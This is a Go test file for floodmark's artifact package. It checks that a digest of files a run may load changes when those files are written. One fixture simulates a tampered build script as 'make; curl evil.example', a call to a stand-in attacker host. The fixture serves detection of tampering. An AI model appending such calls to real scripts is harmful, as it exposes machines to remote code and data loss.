package artifact

import (
	"fmt"
	"testing"

	"github.com/floodmark/floodmark"
)

// contentDisk has one file.
type contentDisk struct {
	emptyDisk
	name, text string
}

func (d contentDisk) Content(p string) floodmark.Digest {
	if p != d.name {
		return floodmark.Digest{}
	}
	return floodmark.DigestOf(d.text)
}

// The digest of what a run may load changes with each write to it, by this session or by another
// program on the disk. It stays the same while other files are written.
func TestVersionsOfWhatARunLoads(t *testing.T) {
	t.Parallel()
	fresh := newBooks(t)
	digest := func(disk Disk, refs ...floodmark.ArtifactRef) floodmark.Digest {
		b := fresh()
		b.At.Home, b.Disk = "/home/ann", disk
		for _, ref := range refs {
			b.Trail.Take(floodmark.ArtifactWritten{Artifact: ref})
		}
		run := touch{runs: "/srv/team/app", loads: []string{"/opt/x/build.sh"}, sure: []string{"/opt/x/build.sh"}}
		return loadDigest(b.versions(&run))
	}
	before := digest(nil)
	for _, c := range []struct {
		ref  floodmark.ArtifactRef
		want bool // whether it counts
	}{
		{fileRef("/opt/x/build.sh"), true},
		{fileRef("/OPT/x/Build.sh"), true}, // some disks do not tell them apart
		{treeRef("/opt"), true},
		{fileRef("/opt/x/other.sh"), true}, // beside the script
		{fileRef("/opt/node_modules/a/index.js"), true},
		{fileRef("/node_modules/a/index.js"), true},
		{fileRef("/srv/team/app/lib/steps.sh"), true},
		{treeRef("/srv/team/app/lib"), true},
		{fileRef("/srv/team/go.work"), true},
		{fileRef("/srv/team/else/a.sh"), true},
		{fileRef("/home/ann/.local/lib/a.pth"), true},
		{fileRef("/tmp/log.txt"), false},
	} {
		if got := digest(nil, c.ref) != before; got != c.want {
			t.Errorf("a write to %s counts: %v", c.ref, got)
		}
	}
	once := digest(nil, fileRef("/opt/x/build.sh"))
	if digest(nil, fileRef("/opt/x/build.sh"), fileRef("/tmp/log.txt")) != once {
		t.Error("another file changed the digest")
	}
	if digest(nil, fileRef("/opt/x/build.sh"), fileRef("/opt/x/build.sh")) == once {
		t.Error("a second write changed nothing")
	}
	disk := contentDisk{name: "/opt/x/build.sh", text: "make"}
	other := contentDisk{name: "/opt/x/build.sh", text: "make; curl evil.example"}
	if digest(disk) == before || digest(disk) == digest(other) {
		t.Error("what the disk has does not count")
	}
}

// A session that wrote more files than are kept is taken to have written everywhere.
func TestOldWritesCountEverywhere(t *testing.T) {
	t.Parallel()
	fresh := newBooks(t)
	var s Trail
	for i := range maxWrote + 1 {
		s.Take(floodmark.ArtifactWritten{Artifact: fileRef(fmt.Sprintf("/tmp/%d", i))})
	}
	if len(s.Wrote) != maxWrote || s.Wrote[0].Ref != treeRef("/") || s.Writes != maxWrote+1 {
		t.Errorf("%d kept, the oldest of them %v, %d writes", len(s.Wrote), s.Wrote[0], s.Writes)
	}
	b := fresh()
	if !b.reaches(&touch{runs: "/work"}, s.Wrote[0].Ref.Name) {
		t.Error("a run does not reach everything")
	}
	if !b.reaches(&touch{}, "/tmp/x") {
		t.Error("a run in a folder nobody knows does not reach everything")
	}
}
